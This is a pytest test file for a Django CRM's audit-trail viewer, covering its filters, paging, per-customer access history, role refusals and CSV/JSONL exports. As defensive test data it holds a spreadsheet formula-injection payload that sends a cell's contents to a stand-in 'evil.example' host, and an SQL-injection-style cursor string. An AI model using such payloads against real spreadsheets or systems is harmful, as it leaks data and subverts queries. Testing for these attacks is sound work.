"""The audit viewer: what the auditor sees and filters, one customer's access history, exports,
who is refused, and that the auditor's own reading is recorded."""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone

from anke.accounts.actions import create_user
from anke.audit.catalogue import Event, Outcome
from anke.audit.models import AuditEvent, EventCustomer, Leaf
from anke.audit.recorder import record
from anke.audit.sealing import DOCUMENT_COLUMNS, document, seal_pending
from anke.audit.views import FORMULA_STARTS
from anke.core.context import Actor
from tests.audit.conftest import tamper
from tests.helpers import html
from tests.personas import OPERATOR, PASSWORD, actor, customer_of

pytestmark = pytest.mark.django_db
LIST = reverse("audit:list")
EXPORT = reverse("audit:export")


@pytest.fixture
def auditor_client(client, cast):
    client.force_login(cast.auditor)
    return client


def shown(response) -> list[int]:
    return [row["event"].pk for row in response.context["rows"]]


def newest_first(queryset) -> list[int]:
    return list(queryset.order_by("-id").values_list("id", flat=True))


def at(user, ip: str) -> Actor:
    return Actor(user=user, ip=ip, auth_method="session")


def last(action: Event, user=None) -> AuditEvent:
    events = AuditEvent.objects.filter(action=action)
    if user is not None:
        events = events.filter(actor=user)
    return events.latest("id")


# --- the list and its filters -------------------------------------------------------------------

def test_the_list_shows_the_newest_events_first_with_every_column(auditor_client, cast):
    customer = customer_of(cast.sales_a)
    viewed = record(at(cast.sales_a, "10.1.2.3"), Event.CUSTOMER_VIEW, object_type="customer",
                    object_ids=[customer.pk], fields=["name", "phone"], customers=[customer.pk])
    response = auditor_client.get(LIST)
    assert response.status_code == 200
    everything = newest_first(AuditEvent.objects.exclude(action=Event.AUDIT_LIST))
    assert shown(response) == everything[:50]
    body = html(response)
    row = body[body.index(f'data-event="{viewed.pk}"'):]
    row = row[:row.index("</tr>")]
    for cell in ("sales_a", "Sales rep", "session", "10.1.2.3", "viewed a customer",
                 "customer.view", str(customer.pk), "name, phone", "allowed", "pending"):
        assert cell in row, cell
    assert f'href="{reverse("audit:customer", args=[customer.pk])}"' in row


def test_sealed_events_show_their_sequence_number(auditor_client, cast, public_key):
    event = record(OPERATOR, Event.KEY_VERIFY)
    seal_pending()
    response = auditor_client.post(LIST, {"action": Event.KEY_VERIFY})
    assert shown(response) == [event.pk]
    row = html(response).split(f'data-event="{event.pk}"')[1].split("</tr>")[0]
    assert f"<td>{Leaf.objects.get(event_id=event.pk).seq}</td>" in row and "pending" not in row


@pytest.fixture
def trail(cast):
    """A few events that differ in one respect each."""
    customer = customer_of(cast.sales_a)
    other = customer_of(cast.sales_b)
    return {
        "customer": customer,
        "view": record(at(cast.sales_a, "10.0.0.1"), Event.CUSTOMER_VIEW, object_type="customer",
                       object_ids=[customer.pk], customers=[customer.pk]),
        "denied": record(at(cast.sales_b, "10.0.0.2"), Event.CUSTOMER_VIEW,
                         object_type="customer", object_ids=[customer.pk], customers=[customer.pk],
                         outcome=Outcome.DENIED, reason="not_visible"),
        "other": record(at(cast.sales_b, "2001:db8::7"), Event.CUSTOMER_VIEW,
                        object_type="customer", object_ids=[other.pk], customers=[other.pk]),
        "deal12": record(at(cast.manager, "10.0.0.3"), Event.DEAL_VIEW, object_type="deal",
                         object_ids=["9912"]),
        "deal123": record(at(cast.manager, "10.0.0.3"), Event.DEAL_VIEW, object_type="deal",
                          object_ids=["99123", "7777"]),
    }


@pytest.mark.parametrize(("filters", "expected"), [
    ({"action": "customer.view"}, ["other", "denied", "view"]),
    ({"action": "customer.view", "actor": "sales_b"}, ["other", "denied"]),
    ({"action": "customer.view", "outcome": "denied"}, ["denied"]),
    ({"ip": "10.0.0.2"}, ["denied"]),
    ({"ip": "2001:DB8:0::7"}, ["other"]),
    ({"object_type": "deal"}, ["deal123", "deal12"]),
    ({"object_id": "9912"}, ["deal12"]),  # a whole id, never a part of one
    ({"object_id": "7777"}, ["deal123"]),
    ({"actor": "manager", "object_type": "customer"}, []),
])
def test_filters_select_exactly_the_matching_events(auditor_client, trail, filters, expected):
    response = auditor_client.post(LIST, filters)
    assert response.status_code == 200
    assert shown(response) == [trail[name].pk for name in expected]


def test_customer_filter_keeps_only_events_naming_the_customer(auditor_client, trail):
    customer = trail["customer"]
    response = auditor_client.post(LIST, {"customer": str(customer.pk),
                                          "action": "customer.view"})
    assert shown(response) == [trail["denied"].pk, trail["view"].pk]


def test_time_filters_bound_the_period_to_the_minute(auditor_client, trail):
    now = timezone.localtime().replace(second=0, microsecond=0)
    # Recorded times are append-only (a trigger on PostgreSQL): set them as a superuser would.
    def move(event, moment):
        tamper("UPDATE audit_auditevent SET at = %s WHERE id = %s",
               [connection.ops.adapt_datetimefield_value(moment), event.pk])

    move(trail["deal12"], now - timedelta(days=3))
    move(trail["deal123"], now - timedelta(days=1, seconds=-30))
    base = {"object_type": "deal"}
    day_ago = (now - timedelta(days=1)).strftime("%Y-%m-%dT%H:%M")
    two_days_ago = (now - timedelta(days=2)).strftime("%Y-%m-%dT%H:%M")
    assert shown(auditor_client.post(LIST, {**base, "since": two_days_ago})) == [
        trail["deal123"].pk]
    # "To" a minute includes the whole of it: the event 30 seconds into it is in.
    assert shown(auditor_client.post(LIST, {**base, "until": day_ago})) == [
        trail["deal123"].pk, trail["deal12"].pk]
    assert shown(auditor_client.post(LIST, {**base, "until": two_days_ago})) == [
        trail["deal12"].pk]


@pytest.mark.parametrize(("filters", "field", "message"), [
    ({"since": "2024-13-45"}, "since", "Enter a valid date/time."),
    ({"until": "yesterday"}, "until", "Enter a valid date/time."),
    ({"since": "0001-01-01T00:00"}, "since", "Enter a date between the years"),
    ({"ip": "999.1.1.1"}, "ip", "Enter a valid IPv4 or IPv6 address."),
    ({"customer": "not-a-uuid"}, "customer", "Enter a valid UUID."),
    ({"action": "customer.steal"}, "action", "Select a valid choice."),
    ({"since": "2024-05-02T00:00", "until": "2024-05-01T00:00"}, "until",
     "The end of the period is before its start."),
])
def test_bad_filters_are_explained_and_show_nothing(auditor_client, trail, filters, field,
                                                    message):
    response = auditor_client.post(LIST, filters)
    assert response.status_code == 200
    assert message in response.context["form"].errors[field][0]
    assert f'data-field-error="{field}"' in html(response)
    assert shown(response) == []
    assert last(Event.AUDIT_LIST).fields == sorted(filters)


def test_pages_walk_every_event_once(auditor_client, cast, monkeypatch):
    monkeypatch.setattr("anke.audit.views.PAGE_SIZE", 2)
    made = [record(OPERATOR, Event.KEY_VERIFY, object_ids=[i]).pk for i in range(5)]
    seen, cursor, pages = [], "", 0
    for _page in range(5):  # bounded: a cursor that is ignored must fail, not loop
        response = auditor_client.post(LIST, {"action": Event.KEY_VERIFY, "cursor": cursor})
        seen += shown(response)
        pages += 1
        cursor = response.context["next_cursor"]
        if not cursor:
            break
        assert f'name="cursor" value="{cursor}"' in html(response)
    assert (seen, pages) == (made[::-1], 3)
    # A forged cursor starts from the first page instead of failing.
    response = auditor_client.post(LIST, {"action": Event.KEY_VERIFY, "cursor": "x' OR 1=1"})
    assert shown(response) == made[::-1][:2]


def test_the_list_costs_a_fixed_number_of_queries(auditor_client, cast,
                                                  django_assert_max_num_queries):
    customers = [customer_of(cast.sales_a) for _i in range(3)]
    for i in range(60):
        record(at(cast.sales_a, "10.0.0.9"), Event.CUSTOMER_VIEW, object_type="customer",
               object_ids=[customers[i % 3].pk], customers=[customers[i % 3].pk])
    with django_assert_max_num_queries(7):
        response = auditor_client.get(LIST)
    assert len(shown(response)) == 50
    with django_assert_max_num_queries(7):
        response = auditor_client.get(reverse("audit:customer", args=[customers[0].pk]))
    assert len(shown(response)) == 21  # 20 views and the creation


def test_each_page_view_records_the_filters_by_name_only(auditor_client, trail, cast):
    response = auditor_client.post(LIST, {"actor": "sales_b", "ip": "10.0.0.2", "outcome": ""})
    event = last(Event.AUDIT_LIST)
    assert (event.actor_id, event.outcome, event.fields) == (cast.auditor.pk, "allowed",
                                                             ["actor", "ip"])
    assert event.object_type == "auditevent"
    assert event.object_ids == [str(pk) for pk in shown(response)]
    assert event.customer_ids == []
    row = AuditEvent.objects.filter(pk=event.pk).values_list(*DOCUMENT_COLUMNS).get()
    assert "sales_b" not in json.dumps(document(None, row), default=str)
    assert "10.0.0.2" not in json.dumps(document(None, row), default=str)


def test_the_nav_links_the_audit_trail_for_auditors_only(client, cast):
    client.force_login(cast.auditor)
    assert f'href="{LIST}"' in html(client.get(reverse("tokens")))
    client.force_login(cast.manager)
    assert f'href="{LIST}"' not in html(client.get(reverse("tokens")))


# --- one customer's access history --------------------------------------------------------------

def test_customer_page_lists_exactly_the_events_naming_the_customer(client, cast):
    customer = customer_of(cast.sales_a, name="欧阳锋", phone="13812345678")
    other = customer_of(cast.sales_a, name="黄药师")
    # given: the owner reads the record, another rep tries to, and noise around it
    client.force_login(cast.sales_a)
    assert client.get(customer.get_absolute_url()).status_code == 200
    client.force_login(cast.sales_b)
    assert client.get(customer.get_absolute_url()).status_code == 404
    attempt = AuditEvent.objects.filter(actor=cast.sales_b, outcome="denied").latest("id")
    assert attempt.customer_ids == [str(customer.pk)]
    record(actor(cast.sales_a), Event.CUSTOMER_VIEW, object_type="customer",
           object_ids=[other.pk], customers=[other.pk])
    # an index row an attacker slipped in: the event's own sealed list does not name the customer
    forged = record(OPERATOR, Event.KEY_VERIFY)
    EventCustomer.objects.create(event_id=forged.pk, customer_id=customer.pk)

    client.force_login(cast.auditor)
    response = client.get(reverse("audit:customer", args=[customer.pk]))

    assert response.status_code == 200
    expected = [e.pk for e in AuditEvent.objects.order_by("-id")
                if str(customer.pk) in e.customer_ids]
    assert shown(response) == expected
    assert attempt.pk in expected and forged.pk not in expected
    assert len(expected) >= 3  # created, viewed, refused
    body = html(response)
    assert str(customer.pk) in body
    assert "欧阳锋" not in body and "13812345678" not in body and "5678" not in body
    event = last(Event.AUDIT_LIST, cast.auditor)
    assert (event.object_type, event.object_ids, event.fields, event.customer_ids) == (
        "customer", [str(customer.pk)], ["customer"], [])


def test_customer_page_pages(auditor_client, cast, monkeypatch):
    monkeypatch.setattr("anke.audit.views.PAGE_SIZE", 2)
    customer = customer_of(cast.sales_a)
    for _i in range(3):
        record(actor(cast.sales_a), Event.CUSTOMER_VIEW, customers=[customer.pk])
    url = reverse("audit:customer", args=[customer.pk])
    first = auditor_client.get(url)
    second = auditor_client.get(url, {"cursor": first.context["next_cursor"]})
    assert len(shown(first)) == 2 and len(shown(second)) == 2
    assert second.context["next_cursor"] is None
    assert sorted(shown(first) + shown(second), reverse=True) == shown(first) + shown(second)


# --- who is refused -----------------------------------------------------------------------------

@pytest.mark.parametrize("persona", ["sales_a", "service", "admin", "manager"])
@pytest.mark.parametrize(("method", "url", "event"), [
    ("get", LIST, Event.AUDIT_LIST),
    ("post", LIST, Event.AUDIT_LIST),
    ("post", EXPORT, Event.AUDIT_EXPORT),
    ("get", "customer", Event.AUDIT_LIST),
])
def test_everyone_else_is_refused_and_the_refusal_recorded(client, cast, persona, method, url,
                                                          event):
    user = getattr(cast, persona)
    customer = customer_of(cast.sales_a)
    if url == "customer":
        url = reverse("audit:customer", args=[customer.pk])
    client.force_login(user)
    response = getattr(client, method)(url, {"format": "csv"} if url == EXPORT else {})
    assert response.status_code == 403
    assert "attachment" not in response.get("Content-Disposition", "")
    refusal = last(event, user)
    assert (refusal.outcome, refusal.reason) == ("denied", "not_permitted")
    assert not AuditEvent.objects.filter(actor=user, outcome="allowed",
                                         action__in=[Event.AUDIT_LIST, Event.AUDIT_EXPORT])


def test_anonymous_visitors_are_sent_to_log_in(client, cast):
    response = client.get(LIST)
    assert response.status_code == 302 and response["Location"].startswith(reverse("account_login"))


# --- exports ------------------------------------------------------------------------------------

def export(client, file_format, **filters):
    response = client.post(EXPORT, {"format": file_format, **filters})
    assert response.status_code == 200, html(response)
    return response, b"".join(response.streaming_content)


def test_csv_export_neutralises_formulas(auditor_client, cast):
    trickster = create_user(OPERATOR, username="+1+1", password=PASSWORD, roles=["sales_rep"])
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    event = record(at(trickster, "10.0.0.5"), Event.CUSTOMER_VIEW, reason=evil,
                   object_type="@SUM(1)", object_ids=["-2"], fields=["\tname"])
    response, content = export(auditor_client, "csv", object_type="@SUM(1)")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert len(body) == 1
    cells = dict(zip(header, body[0], strict=True))
    assert cells["id"] == str(event.pk)
    assert cells["reason"] == "'" + evil
    assert cells["actor"] == "'+1+1"
    assert cells["object_type"] == "'@SUM(1)"
    assert cells["object_ids"] == "'-2"
    assert cells["fields"] == "'\tname"
    assert (cells["seq"], cells["action"], cells["action_label"]) == (
        "", "customer.view", "viewed a customer")
    for cell in body[0]:
        assert not cell.startswith(FORMULA_STARTS), cell


def test_export_is_recorded_once_before_the_data_leaves(auditor_client, trail, cast):
    before = AuditEvent.objects.filter(action=Event.AUDIT_EXPORT).count()
    response = auditor_client.post(EXPORT, {"format": "jsonl", "action": "customer.view",
                                            "actor": "sales_b"})
    # Recorded when the response is handed over, before a single line is produced.
    assert AuditEvent.objects.filter(action=Event.AUDIT_EXPORT).count() == before + 1
    lines = b"".join(response.streaming_content).decode().splitlines()
    assert AuditEvent.objects.filter(action=Event.AUDIT_EXPORT).count() == before + 1
    event = last(Event.AUDIT_EXPORT)
    assert (event.actor_id, event.object_ids, event.fields, event.outcome, event.reason) == (
        cast.auditor.pk, ["2"], ["action", "actor"], "allowed", "")
    assert response["X-Anke-Export-Rows"] == "2"
    assert "X-Anke-Export-Capped" not in response
    assert not AuditEvent.objects.filter(action=Event.AUDIT_LIST, actor=cast.auditor).exists()
    # The lines are the canonical documents the seal covers.
    expected = [trail["other"], trail["denied"]]
    assert [json.loads(line) for line in lines] == [
        json.loads(json.dumps(document(None, AuditEvent.objects.filter(pk=e.pk).values_list(
            *DOCUMENT_COLUMNS).get()))) for e in expected]


def test_jsonl_export_carries_sequence_numbers_of_sealed_events(auditor_client, cast,
                                                                public_key):
    event = record(OPERATOR, Event.KEY_VERIFY)
    seal_pending()
    _response, content = export(auditor_client, "jsonl", action=Event.KEY_VERIFY)
    (line,) = content.decode().splitlines()
    assert json.loads(line)["seq"] == Leaf.objects.get(event_id=event.pk).seq
    assert json.loads(line)["id"] == event.pk


def test_export_stops_at_the_cap_and_says_so(auditor_client, cast, monkeypatch):
    monkeypatch.setattr("anke.audit.views.EXPORT_CAP", 3)
    made = [record(OPERATOR, Event.KEY_VERIFY, object_ids=[i]).pk for i in range(5)]
    response, content = export(auditor_client, "csv", action=Event.KEY_VERIFY)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))[1:]
    assert [int(r[0]) for r in rows] == made[::-1][:3]
    assert response["X-Anke-Export-Capped"] == "3"
    assert "-first-3.csv" in response["Content-Disposition"]
    event = last(Event.AUDIT_EXPORT)
    assert (event.object_ids, event.reason) == (["3"], "capped at 3")


def test_export_with_bad_filters_or_format_exports_nothing(auditor_client, trail):
    for data in ({"format": "csv", "ip": "not-an-ip"}, {"format": "xlsx"}, {}):
        response = auditor_client.post(EXPORT, data)
        assert response.status_code == 200
        assert not response.streaming
        assert response["Content-Type"].startswith("text/html")
        assert response.context["form"].errors
    assert not AuditEvent.objects.filter(action=Event.AUDIT_EXPORT).exists()
    assert "Choose CSV or JSON lines." in html(response)
